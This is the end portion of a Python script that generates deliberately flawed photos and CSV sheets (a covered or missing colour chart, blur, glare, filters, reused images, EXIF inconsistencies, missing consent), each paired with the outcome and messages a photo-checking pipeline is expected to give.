        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,22.2N"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    s.put("bad.jpg", s.enc("JPEG", quality=92, exif=e, xmp=xmp, comment=b"SECRET-COMMENT"))
    s.sheet()


@fault("PRV-02", "refused", ["consent"])
def _(s):
    """consent column says no"""
    s.put("good2.jpg", s.jpeg)
    rows = [_two(s)[0] + ["yes"], _two(s)[1] + ["no"]]
    s.put("study.csv", s.csvtext(rows, head=[*s.head, "consent"]).encode(), sub=".")


# ------------------------------------------------------------------ what the camera saw
def _chartpix(s):
    x0, y0, x1, y1 = s.box("chart")
    return x0, y0, x1, y1, s.a.astype(float).copy()


@fault("SCN-01", "refused", ["chart", "not found"])
def _(s):
    """chart missing"""
    x0, y0, x1, y1, a = _chartpix(s)
    a[y0:y1, x0:x1] = np.median(a[max(0, y0 - 40) : y0, x0:x1].reshape(-1, 3), 0)
    s.scene(a)
    s.sheet()


@fault("SCN-02", "refused", ["chart-covered"])
def _(s):
    """35 % of the chart covered by a skin-coloured shape"""
    x0, y0, x1, y1, a = _chartpix(s)
    a[y0:y1, x0 : x0 + int(0.35 * (x1 - x0))] = (205, 160, 135)
    s.scene(a)
    s.sheet()


@fault("SCN-03", "correct", [])
def _(s):
    """chart upside down: found by its patches, the same number"""
    x0, y0, x1, y1, a = _chartpix(s)
    a[y0:y1, x0:x1] = a[y0:y1, x0:x1][::-1, ::-1]
    s.scene(a)
    s.sheet()


@fault("SCN-04", "flagged", ["mirrored"])
def _(s):
    """whole photo mirrored (front camera)"""
    s.box("chart")
    s.scene(s.a[:, ::-1])
    s.sheet()


@fault("SCN-05", "refused", ["two charts"])
def _(s):
    """a second, smaller chart"""
    x0, y0, x1, y1, a = _chartpix(s)
    im = Image.fromarray(a[y0:y1, x0:x1].astype("uint8"))
    k = min(0.5, 0.9 * max(y0, s.h - y1) / (y1 - y0))
    if k < 0.1:
        raise SkipFault("no room above or below the chart")
    b = np.asarray(im.resize((int(im.width * k), int(im.height * k))))
    ty = 0 if y0 > s.h - y1 else s.h - b.shape[0]
    a[ty : ty + b.shape[0], s.w - b.shape[1] :] = b
    s.scene(a)
    s.sheet()


@fault("SCN-06", "refused", ["chart", "version"])
def _(s):
    """another chart version: same layout, every patch off by a few units"""
    x0, y0, x1, y1, a = _chartpix(s)
    g = np.random.default_rng(s.seed).normal(0, 14, (4, 6, 3))
    k = np.kron(g, np.ones((-(-(y1 - y0) // 4), -(-(x1 - x0) // 6), 1)))[: y1 - y0, : x1 - x0]
    a[y0:y1, x0:x1] += k
    s.scene(a)
    s.sheet()


@fault("SCN-07", "refused", ["over-exposed"])
def _(s):
    """highlights clipped (linear gain 2.5)"""
    s.scene(delin(lin(s.a) * 2.5))
    s.sheet()


@fault("SCN-08", "refused", ["under-exposed"])
def _(s):
    """4.5 stops under"""
    s.scene(delin(lin(s.a) * 0.044))
    s.sheet()


@fault("SCN-09", "flagged", ["blur"])
def _(s):
    """motion blur, 41 px"""
    a = s.a.astype(float)
    k = 41
    c = np.cumsum(np.pad(a, ((0, 0), (k // 2 + 1, k // 2), (0, 0)), "edge"), 1)
    s.scene((c[:, k:] - c[:, :-k]) / k)
    s.sheet()


@fault("SCN-10", "flagged", ["blur"])
def _(s):
    """out of focus"""
    s.scene(np.asarray(s.rgb.filter(ImageFilter.GaussianBlur(9))))
    s.sheet()


@fault("SCN-11", "refused", ["mixed light"])
def _(s):
    """warm light on the left, cool on the right"""
    t = np.linspace(0, 1, s.w)[None, :, None]
    g = (1 - t) * np.array([1.15, 1, 0.7]) + t * np.array([0.85, 1, 1.25])
    s.scene(delin(lin(s.a) * g))
    s.sheet()


@fault("SCN-12", "flagged", ["uneven light"])
def _(s):
    """brightness falls to 35 % from left to right"""
    s.scene(delin(lin(s.a) * np.linspace(1, 0.35, s.w)[None, :, None]))
    s.sheet()


@fault("SCN-13", "flagged", ["glare"])
def _(s):
    """glare spot on the chart"""
    x0, y0, x1, y1, a = _chartpix(s)
    yy, xx = np.mgrid[: s.h, : s.w]
    r = 0.18 * (x1 - x0)
    s.scene(
        delin(
            lin(a)
            + 0.6
            * np.exp(
                -((xx - (x0 + 0.35 * (x1 - x0))) ** 2 + (yy - (y0 + 0.5 * (y1 - y0))) ** 2)
                / (2 * r * r)
            )[..., None]
        )
    )
    s.sheet()


@fault("SCN-14", "flagged", ["colour filter"])
def _(s):
    """app colour filter over the whole photo: cross-talk, faded blacks, S-curve"""
    v = s.a / 255 @ np.array([[0.9, 0.08, 0.02], [0.05, 0.9, 0.05], [0.02, 0.12, 0.86]]).T
    v = 0.06 + 0.9 * (v + 0.12 * np.sin(2 * np.pi * (v - 0.0)) * -0.5)
    s.scene(255 * v)
    s.sheet()


@fault("SCN-15", "flagged", ["retouched"])
def _(s):
    """beauty filter: hair region smoothed and lifted, chart untouched"""
    x0, y0, x1, y1 = s.box("hair")
    a = s.a.astype(float).copy()
    b = np.asarray(s.rgb.filter(ImageFilter.GaussianBlur(6))).astype(float)
    a[y0:y1, x0:x1] = b[y0:y1, x0:x1] * 1.06 + 6
    s.scene(a)
    s.sheet()


@fault("SCN-16", "refused", ["screen"])
def _(s):
    """photo of a screen: pixel grid, banding, raised black"""
    yy, xx = np.mgrid[: s.h, : s.w]
    m = np.stack([0.78 + 0.22 * np.cos(2 * np.pi * (xx / 3.07 + i / 3)) for i in range(3)], -1)
    m *= (0.9 + 0.1 * np.cos(2 * np.pi * yy / 3.11))[..., None]
    s.scene(
        255
        * (0.05 + 0.95 * (delin(lin(s.a) * m) / 255))
        * (0.96 + 0.04 * np.sin(yy / 37.0)[..., None])
    )
    s.sheet()


@fault("SCN-17", "flagged", ["screenshot"])
def _(s):
    """phone screenshot: PNG, screen size, bars, no camera metadata"""
    c = Image.new("RGB", (1170, 2532), (0, 0, 0))
    im = s.rgb.copy()
    im.thumbnail((1170, 1900))
    c.paste(im, (0, 300))
    c.paste((240, 240, 240), (0, 0, 1170, 120))
    s.put("bad.png", s.enc("PNG", c))
    s.sheet(("photos/good.jpg", "photos/bad.png"))


@fault("SCN-18", "flagged", ["edited"])
def _(s):
    """edited: Software tag, tone curve, saved again at quality 71"""
    e = Image.Exif()
    e[0x0131] = "Some Photo Editor 12"
    e[0x0110] = "TestModel"
    v = s.a / 255.0
    s.put(
        "bad.jpg",
        s.enc(
            "JPEG",
            Image.fromarray((255 * (v**0.9) + 0.5).clip(0, 255).astype("uint8")),
            quality=71,
            exif=e,
        ),
    )
    s.sheet()


def _dated(s, name, when, **kw):
    e = Image.Exif()
    e[0x0132] = when
    e.get_ifd(0x8769)[0x9003] = when
    s.put(name, s.enc("JPEG", quality=92, exif=e, **kw))


@fault("SCN-19", "flagged", ["time order"])
def _(s):
    """EXIF dates run against the wash numbers"""
    _dated(s, "w0.jpg", "2025:03:10 10:00:00")
    _dated(s, "w5.jpg", "2025:03:01 10:00:00")
    s.put(
        "study.csv",
        s.csvtext(
            [[*s.rowfor("photos/w0.jpg"), "0"], [*s.rowfor("photos/w5.jpg"), "5"]],
            head=[*s.head, "wash_no"],
        ).encode(),
        sub=".",
    )


@fault("SCN-20", "sheet-refused", ["same picture"])
def _(s):
    """the same bytes under two names for two washes"""
    s.put("w5.jpg", s.jpeg)
    s.put(
        "study.csv",
        s.csvtext(
            [[*s.rowfor("photos/good.jpg"), "0"], [*s.rowfor("photos/w5.jpg"), "5"]],
            head=[*s.head, "wash_no"],
        ).encode(),
        sub=".",
    )


@fault("SCN-21", "flagged", ["same picture"])
def _(s):
    """the same picture saved again, cropped 2 %, for another wash"""
    dx, dy = s.w // 50, s.h // 50
    s.put("w5.jpg", s.enc("JPEG", s.rgb.crop((dx, dy, s.w - dx, s.h - dy)), quality=80))
    s.put(
        "study.csv",
        s.csvtext(
            [[*s.rowfor("photos/good.jpg"), "0"], [*s.rowfor("photos/w5.jpg"), "5"]],
            head=[*s.head, "wash_no"],
        ).encode(),
        sub=".",
    )


@fault("SCN-22", "refused", ["too few pixels"])
def _(s):
    """thumbnail: 160 px wide"""
    s.put("bad.jpg", s.enc("JPEG", s.rgb.resize((160, max(1, 160 * s.h // s.w))), quality=85))
    s.sheet()


@fault("SCN-23", "flagged", ["shadow"])
def _(s):
    """hard shadow over half of the hair only, chart fully lit"""
    x0, y0, x1, y1 = s.box("hair")
    v = lin(s.a)
    v[y0 : (y0 + y1) // 2, x0:x1] *= 0.45
    s.scene(delin(v))
    s.sheet()


@fault("SCN-24", "flagged", ["heavily compressed"])
def _(s):
    """messenger copy: 1/2 size, quality 30, 4:2:0"""
    s.put("bad.jpg", s.enc("JPEG", s.rgb.resize((s.w // 2, s.h // 2)), quality=30, subsampling=2))
    s.sheet()


# ------------------------------------------------------------------ driver
def have(mod):
    try:
        m = __import__(mod)
        if mod == "pillow_heif":
            m.register_heif_opener()
        return True
    except ImportError:
        return False


def check(path):
    with open(path, encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    ids = [r["id"] for r in rows]
    want = {r["id"] for r in rows if r["maker"] == "file"}
    bad = sorted(want ^ set(MAKERS)) + sorted({i for i in ids if ids.count(i) > 1})
    for r in rows:
        if r["id"] in MAKERS and r["outcome"] != MAKERS[r["id"]]["outcome"]:
            bad.append(f"{r['id']}: outcome {r['outcome']} != {MAKERS[r['id']]['outcome']}")
    print(
        f"{len(rows)} faults, {len(want)} made by file; "
        + ("OK" if not bad else "PROBLEMS " + ", ".join(bad))
    )
    return 1 if bad else 0


def main(argv=None):
    ap = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("photo", nargs="?")
    ap.add_argument("sheet", nargs="?")
    ap.add_argument("out", nargs="?")

    def four(t):
        return tuple(float(v) for v in t.split(","))

    ap.add_argument("--chart", type=four)
    ap.add_argument("--hair", type=four)
    ap.add_argument("--only")
    ap.add_argument("--heavy", action="store_true")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--photo-column", default="photo")
    ap.add_argument("--check")
    ap.add_argument("--dump", action="store_true")
    o = ap.parse_args(argv)
    if o.check:
        return check(o.check)
    if o.dump:
        for k, v in sorted(MAKERS.items()):
            print(k, v["outcome"], v["title"], "; ".join(v["says"]), sep="\t")
        return 0
    if not (o.photo and o.sheet and o.out):
        ap.error("PHOTO, SHEET and OUT are needed")
    out = pathlib.Path(o.out)
    if out.exists() and any(out.iterdir()):
        ap.error(f"{out} is not empty; choose a new folder (nothing was written)")
    out.mkdir(parents=True, exist_ok=True)
    s = Study(o.photo, o.sheet, o.chart, o.hair, o.seed, o.photo_column)
    only = set(o.only.split(",")) if o.only else None
    if only and only - set(MAKERS):
        ap.error("no such fault: " + ", ".join(sorted(only - set(MAKERS))))
    made = skipped = 0
    with open(out / "index.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["id", "state", "outcome", "must_say", "title"])
        for fid, m in sorted(MAKERS.items()):
            if only and fid not in only:
                continue
            why = (
                "heavy (use --heavy)"
                if m["heavy"] and not o.heavy
                else next((f"needs {n}" for n in m["needs"] if not have(n)), None)
            )
            s.rng = np.random.default_rng(o.seed)
            s.d = out / fid
            if not why:
                s.d.mkdir()
                s.put("good.jpg", s.jpeg)
                try:
                    m["fn"](s)
                    (s.d / "expect.json").write_text(
                        json.dumps(
                            {
                                "id": fid,
                                "title": m["title"],
                                "outcome": m["outcome"],
                                "must_say": m["says"],
                            },
                            indent=1,
                        )
                    )
                    made += 1
                except SkipFault as e:
                    why = str(e)
                    shutil.rmtree(s.d)
                except OSError as e:  # e.g. names that this file system cannot hold
                    why = f"cannot be made here: {e}"
                    shutil.rmtree(s.d, ignore_errors=True)
            skipped += bool(why)
            w.writerow(
                [
                    fid,
                    f"skipped: {why}" if why else "made",
                    m["outcome"],
                    "; ".join(m["says"]),
                    m["title"],
                ]
            )
    print(f"made {made}, skipped {skipped} of {made + skipped}; see {out / 'index.csv'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
